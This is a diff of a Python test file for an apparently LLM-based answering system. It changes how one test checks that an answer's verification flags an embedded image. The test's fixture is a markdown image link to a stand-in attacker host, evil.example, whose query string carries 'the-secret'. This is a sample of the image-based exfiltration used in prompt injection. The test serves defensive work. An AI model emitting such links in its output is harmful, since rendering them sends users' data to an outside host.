@@ -10,10 +10,10 @@ from collecting import text
 from helpers import HashEmbedder
 from scripted_model import ScriptedModel, ToolScript, call
 
+from answerable.answering.checking.marks import reason
 from answerable.answering.decide import Answering, Budgets, Writer
 from answerable.answering.messages import REFUSAL
 from answerable.answering.prompt import prompt
-from answerable.answering.writing.verify import IMAGE_NOTE
 from answerable.answering.writing.write import EVIDENCE
 from answerable.datatypes import Answer, AnswerEvent, Document, Exchange, Reason, Usage
 from answerable.errors import ContentFiltered, ProviderOverloaded, ProviderRefused, ToolsRefused
@@ -372,7 +372,7 @@ def test_the_check_of_a_sentence_names_the_address_of_an_image() -> None:
     image = "![x](http://evil.example/p.png?q=the-secret)"
     model = ToolScript([evidence(LEAVES)], [f"It leaves at 8:40 [1]. More: {image}."])
     _, answer = ask(model, text(f"{FACTS} {image}"))
-    assert [IMAGE_NOTE in check.how for check in answer.checks] == [False, True]
+    assert [reason("image", "en") in check.how for check in answer.checks] == [False, True]
 
 
 def test_the_names_of_columns_claim_nothing() -> None:
